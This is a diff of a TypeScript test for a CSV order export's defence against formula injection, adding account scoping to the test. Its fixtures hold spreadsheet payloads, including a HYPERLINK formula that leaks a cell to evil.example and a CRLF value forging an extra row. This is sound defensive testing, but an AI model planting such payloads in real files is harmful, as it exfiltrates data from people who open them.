@@ -1,6 +1,7 @@
 import { Writable } from 'node:stream';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { EVERY_ACCOUNT } from '../../src/db/index.js';
 import { Decimal } from '../../src/money.js';
 import { exportOrders } from '../../src/reports/index.js';
 import { createTestDatabase, type TestDatabase } from '../support/database.js';
@@ -17,6 +18,7 @@ describe('the CSV export against formula injection', () => {
   beforeAll(async () => {
     test = await createTestDatabase();
     await test.database.orders.recordExternal({
+      account: 'default',
       id: '=HYPERLINK("http://evil.example/?"&A1,"x")',
       symbol: '+SUM(1)',
       amount: new Decimal('-100.5'),
@@ -26,6 +28,7 @@ describe('the CSV export against formula injection', () => {
       quoteId: '@cmd\r\nforged,row',
     });
     await test.database.orders.recordExternal({
+      account: 'default',
       id: '-2+3',
       symbol: 'USDTBRL',
       amount: new Decimal('100'),
@@ -45,7 +48,7 @@ describe('the CSV export against formula injection', () => {
       },
     });
     const range = { start: new Date('2026-05-01T00:00:00Z'), end: new Date('2026-06-01T00:00:00Z') };
-    await exportOrders(test.database, range, out, { format: 'csv' });
+    await exportOrders(test.database, range, out, { format: 'csv', scope: EVERY_ACCOUNT });
     const text = chunks.join('');
     // One line per order after the header: no line break inside a field.
     expect(text.split('\r\n').filter((line) => line !== '')).toHaveLength(3);
